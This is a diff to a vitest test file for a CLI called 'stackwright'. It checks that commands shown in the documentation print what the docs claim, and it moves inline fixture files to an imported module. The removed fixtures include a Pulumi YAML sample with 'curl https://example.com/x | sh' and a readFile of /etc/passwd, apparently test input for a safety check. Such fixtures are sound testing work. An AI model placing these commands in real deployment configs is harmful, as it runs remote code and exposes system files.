@@ -1,8 +1,9 @@
 import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { dirname, join } from "node:path";
 import { expect, test } from "vitest";
+import { documentFiles } from "#cli/testing/document-files.ts";
 import { createFolder } from "#cli/testing/folder.ts";
-import { runWith } from "#cli/testing/terminal.ts";
+import { runInTerminal, runWith } from "#cli/testing/terminal.ts";
 
 /** A command in a document with what it prints, where the document shows that. */
 interface Example {
@@ -36,57 +37,12 @@ const examples = documents
   .flatMap((document) => examplesIn(document, readFileSync(document, "utf8")))
   .filter(({ command, shown }) => command.startsWith("stackwright ") && shown !== "");
 
-/** Files that an example works with beside those of the repository. */
-const given: Readonly<Record<string, Readonly<Record<string, string>>>> = {
-  "stackwright check Pulumi.yaml --fix --dry-run": {
-    "Pulumi.yaml": `name: shop
-runtime: yaml
-resources:
-  # The token of the build.
-  one:
-    type: alpha:containerregistry:Token
-    properties:
-      resourceGroupName: build
-      registry_name: images
-      tokenName: ci
-      status: ENABLED
-`,
-  },
-  "stackwright check Pulumi.yaml --schema command.json": {
-    "command.json": JSON.stringify({
-      name: "command",
-      version: "1.0.1",
-      resources: {
-        "command:local:Command": { inputProperties: { create: { type: "string" } } },
-      },
-    }),
-    "Pulumi.yaml": `name: shop
-runtime: yaml
-resources:
-  # Runs on the machine that deploys.
-
-  deploy:
-    type: command:local:Command
-    properties:
-      create: curl https://example.com/x | sh
-outputs:
-  # Read while it deploys,
-  # from the disk of that machine.
-
-  key:
-    fn::readFile: /etc/passwd
-`,
-  },
-};
-
 /** Examples that are not run, and what they need that a test of documents does not have. */
 const needsMore: Readonly<Record<string, string>> = {
-  "stackwright adopt Pulumi.yaml --state stack.json": "a stack, and types of aws",
   "stackwright init": "an installed Pulumi",
   "stackwright lock": "a shelf on another host",
   "stackwright open Pulumi.yaml": "a server that goes on",
   "stackwright pack random.json": "the schema of random",
-  "stackwright plan design.json --state stack.json": "a stack",
 };
 
 /** Shown lines as an expression: `…` is any text, also over several lines. */
@@ -100,10 +56,13 @@ const pattern = (shown: string): RegExp =>
 
 const runnable = examples.filter(({ command }) => !Object.hasOwn(needsMore, command));
 
-test.each(runnable)("$document shows what $command prints", async ({ command, shown }) => {
+const keyOf = ({ document, command }: Example): string => `${document}: ${command}`;
+
+test.each(runnable)("$document shows what $command prints", async (example) => {
+  const { command, shown } = example;
   const folder = createFolder();
-  for (const [name, text] of Object.entries(given[command] ?? {}))
-    writeFileSync(join(folder, name), text);
+  const given = documentFiles[keyOf(example)] ?? {};
+  for (const [name, text] of Object.entries(given)) writeFileSync(join(folder, name), text);
   const out = join(folder, "out");
   const place = (word: string, before: string | undefined): string => {
     if (before === "--out") return out;
@@ -111,16 +70,19 @@ test.each(runnable)("$document shows what $command prints", async ({ command, sh
   };
   mkdirSync(dirname(out), { recursive: true });
   const words = command.split(" ").slice(1);
-  const ran = await runWith(words.map((word, at) => place(word, words[at - 1])));
+  const around = Object.keys(given).length === 0 ? {} : { folder };
+  const placed = words.map((word, at) => place(word, words[at - 1]));
+  const seen = await runInTerminal(placed, around);
   const named = words[words.indexOf("--out") + 1] ?? "";
-  const printed = ran.shown.replaceAll(out, named).replaceAll(`${folder}/`, "");
+  const printed = seen.replaceAll(out, named).replaceAll(`${folder}/`, "");
   expect(pattern(shown).test(printed) ? shown : printed).toBe(shown);
 });
 
 test("examples that need more are in a document", () => {
   const commands = new Set(examples.map(({ command }) => command));
   expect(Object.keys(needsMore).filter((command) => !commands.has(command))).toEqual([]);
-  expect(Object.keys(given).filter((command) => !commands.has(command))).toEqual([]);
+  const keys = new Set(examples.map(keyOf));
+  expect(Object.keys(documentFiles).filter((key) => !keys.has(key))).toEqual([]);
   expect(runnable.length).toBeGreaterThan(5);
 });
 
